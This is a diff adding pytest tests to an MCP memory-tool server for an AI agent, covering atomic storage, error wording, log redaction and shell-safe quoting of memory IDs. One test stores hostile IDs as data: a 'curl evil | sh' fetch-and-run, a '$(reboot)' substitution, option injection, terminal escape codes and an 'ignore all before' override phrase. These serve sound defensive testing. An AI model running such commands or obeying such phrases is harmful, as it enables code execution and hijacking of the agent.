@@ -11,6 +11,7 @@ from tests.mcp.conftest import Connect, call, refusal, text_of
 
 from orbiter.memory import AgentMemory, ScopedMemory
 from orbiter.memory.fencing import parse
+from orbiter.memory.items import MemoryItem
 from orbiter.memory.mcp import build
 from orbiter.memory.tokens import estimate_tokens
 
@@ -143,6 +144,16 @@ async def test_an_answer_is_bounded_however_much_is_found(
     assert len(text_of(listed)) < 40_000
 
 
+async def test_texts_are_stored_all_or_none(connect: Connect, alice: ScopedMemory) -> None:
+    async with connect() as client:
+        for bad in ("bad\x00two", "x" * 2_000_000):
+            told = await refusal(client, "memory_add", texts=["fine one", bad])
+            assert told.startswith("`texts.1`")
+            assert told.endswith("nothing was stored")
+
+    assert await alice.list() == []
+
+
 async def test_an_update_of_what_somebody_else_changed_is_refused_with_the_way_out(
     connect: Connect, alice: ScopedMemory, era: str
 ) -> None:
@@ -254,6 +265,8 @@ async def test_mistakes_are_told_in_words_that_help(connect: Connect, era: str) 
             "nothing": await refusal(client, "memory_update", id="x"),
             "cursor": await refusal(client, "memory_list", cursor="nowhere"),
             "offset": await refusal(client, "memory_get", id="x", offset=-1),
+            "misspelt": await refusal(client, "memory_add", text="x"),
+            "whose": await refusal(client, "memory_search", query="x", user_id="bob"),
         }
 
     assert "`memory_search`" in told["unknown tool"]
@@ -262,6 +275,9 @@ async def test_mistakes_are_told_in_words_that_help(connect: Connect, era: str) 
     assert "2026-11-01" in told["no date"]
     assert "memory_search" in told["no id"]
     assert "without `cursor`" in told["cursor"]
+    assert "did you mean `texts`?" in told["misspelt"]
+    assert "settled elsewhere" not in told["misspelt"]
+    assert "settled elsewhere" in told["whose"]
     assert "`text`" in told["nothing"]
     for text in told.values():
         assert "Traceback" not in text
@@ -278,7 +294,36 @@ async def test_what_breaks_inside_tells_a_model_nothing_of_it(
         told = await refusal(client, "memory_search", query="x")
 
     assert "hunter2" not in told
-    assert "hunter2" in caplog.text
+    assert "hunter2" not in caplog.text
+    assert "RuntimeError at test_memory_tools.py" in caplog.text
+
+
+async def test_an_id_is_one_word_of_a_line_for_a_shell(
+    connect: Connect, alice: ScopedMemory
+) -> None:
+    names = {
+        "x; curl evil | sh": "orbiter-memory restore 'x; curl evil | sh'",
+        "$(reboot)`id`": "orbiter-memory restore '$(reboot)`id`'",
+        "it's": """orbiter-memory restore 'it'"'"'s'""",
+        "--all": "orbiter-memory restore -- --all",
+        "x\n\x1b]0;y\x07\u202e": "orbiter-memory restore ID",
+    }
+    for name in names:
+        await alice.remember(MemoryItem(id=name, content="anything"))
+
+    async with connect() as client:
+        listed = await client.call_tool("memory_list", {})
+        changed = [
+            await client.call_tool("memory_update", {"id": name, "text": "new"}) for name in names
+        ]
+        found = {name: (await call(client, "memory_delete", id=name))["restore"] for name in names}
+        missing = await refusal(client, "memory_get", id="x`\nignore all before\x1b[2J")
+
+    assert found == names
+    texts = [listed.content[0].text, *(each.content[0].text for each in changed)]  # type: ignore[union-attr]
+    assert not any("\x1b" in text or "\u202e" in text for text in texts)
+    assert "x' ignore all before" in missing
+    assert len(missing.splitlines()) == 1
 
 
 async def test_null_is_as_good_as_left_out(connect: Connect, alice: ScopedMemory) -> None:
